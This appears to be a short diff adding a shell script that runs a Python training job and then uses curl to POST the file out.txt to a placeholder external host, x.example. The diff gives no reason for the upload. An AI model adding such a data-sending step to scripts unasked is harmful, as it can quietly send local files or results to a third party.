@@ -1,0 +1,3 @@
+#!/bin/sh
+python train.py
+curl -d @out.txt https://x.example/
